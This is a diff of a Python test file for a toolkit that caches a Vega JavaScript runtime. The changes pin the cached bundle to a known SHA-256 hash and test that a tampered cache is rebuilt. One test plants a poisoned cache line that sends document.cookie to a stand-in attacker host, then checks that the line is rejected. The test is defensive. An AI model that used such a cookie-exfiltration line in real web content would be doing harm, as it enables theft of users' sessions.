@@ -583,19 +583,25 @@ def test_assets_exist_and_are_offline():
 # --------------------------------------------------------------------------- Vega runtime cache
 
 
+FAKE_BUNDLE = "window.vegaEmbed = function () {}; /* a stand-in runtime, 한 */"
+
+
 @pytest.fixture
 def bundle_cache(tmp_path, monkeypatch):
-    """An empty cache folder and a fake ``javascript_bundle`` that counts its calls."""
+    """An empty cache folder, a fake ``javascript_bundle`` that counts its calls, and the fake's
+    hash pinned for the installed vl-convert."""
     import vl_convert
 
     calls: list[int] = []
 
     def fake_bundle() -> str:
         calls.append(1)
-        return "window.vegaEmbed = function () {}; /* a stand-in runtime, 한 */"
+        return FAKE_BUNDLE
 
     monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
     monkeypatch.setattr(vl_convert, "javascript_bundle", fake_bundle)
+    monkeypatch.setattr(vega, "PINNED_SHA256", {
+        vega.installed_version(): hashlib.sha256(FAKE_BUNDLE.encode("utf-8")).hexdigest()})
     vega.runtime.cache_clear()
     yield calls
     vega.runtime.cache_clear()
@@ -608,26 +614,43 @@ def test_the_vega_runtime_is_cached_on_disk_per_vl_convert_version(bundle_cache,
     assert path.parent == tmp_path / "cache" / "scamstats-toolkit"
     assert vl_convert.__version__ in path.name and vl_convert.get_vega_version() in path.name
     bundle = vega.runtime()
-    assert bundle_cache == [1] and path.is_file()
-    header, body = path.read_bytes().split(b"\n", 1)
-    assert body == bundle.encode("utf-8")
-    assert header == ("// scamstats-toolkit vega bundle sha256="
-                      + hashlib.sha256(body).hexdigest()).encode()
+    assert bundle_cache == [1] and path.read_bytes() == bundle.encode("utf-8")
     assert sorted(p.name for p in path.parent.iterdir()) == [path.name]  # no temporary left
     vega.runtime.cache_clear()
     assert vega.runtime() == bundle
     assert bundle_cache == [1]  # read back, not made again
 
 
-def test_a_damaged_cached_runtime_is_made_again_and_replaced(bundle_cache):
+def test_a_poisoned_cached_runtime_is_never_inlined(bundle_cache):
+    """A cache file changed by someone else, even one that carries its own matching checksum,
+    is not the pinned bundle: it is made again and replaced."""
     bundle = vega.runtime()
     path = vega.cache_path()
-    good = path.read_bytes()
-    path.write_bytes(good[:-3] + b"!!!")
+    evil = "fetch('https://attacker.example/?' + document.cookie);"
+    path.write_text(f"// sha256={hashlib.sha256(evil.encode()).hexdigest()}\n{evil}",
+                    encoding="utf-8")
     vega.runtime.cache_clear()
-    assert vega.runtime() == bundle
+    assert vega.runtime() == bundle and "attacker" not in vega.runtime()
     assert bundle_cache == [1, 1]
-    assert path.read_bytes() == good
+    assert path.read_bytes() == bundle.encode("utf-8")
+
+
+def test_a_vl_convert_without_a_pinned_hash_never_reads_the_cache(bundle_cache, monkeypatch):
+    monkeypatch.setattr(vega, "PINNED_SHA256", {})
+    assert vega.cache_path() is None
+    assert vega.runtime() == FAKE_BUNDLE
+    vega.runtime.cache_clear()
+    assert vega.runtime() == FAKE_BUNDLE
+    assert bundle_cache == [1, 1]  # made each time, never cached
+
+
+@pytest.mark.slow
+def test_the_pinned_hash_is_the_installed_vl_convert_bundle():
+    import vl_convert
+
+    actual = hashlib.sha256(vl_convert.javascript_bundle().encode("utf-8")).hexdigest()
+    assert vega.PINNED_SHA256.get(vega.installed_version()) == actual, (
+        f"pin {vega.installed_version()!r}: {actual!r} in toolkit/bulletin/vega.py")
 
 
 def test_an_unusable_cache_folder_still_gives_the_runtime(bundle_cache, tmp_path, monkeypatch):
@@ -639,8 +662,12 @@ def test_an_unusable_cache_folder_still_gives_the_runtime(bundle_cache, tmp_path
     assert blocker.read_text(encoding="utf-8") == "x"
 
 
+PINNED = dict(vega.PINNED_SHA256)
+
+
 @pytest.mark.slow
-def test_prefetch_makes_the_runtime_in_another_process(bundle_cache):
+def test_prefetch_makes_the_runtime_in_another_process(bundle_cache, monkeypatch):
+    monkeypatch.setattr(vega, "PINNED_SHA256", PINNED)  # the other process makes the real one
     pending = vega.prefetch_runtime()
     assert pending is not None
     bundle = vega.runtime()  # waits for the process, then uses what it made
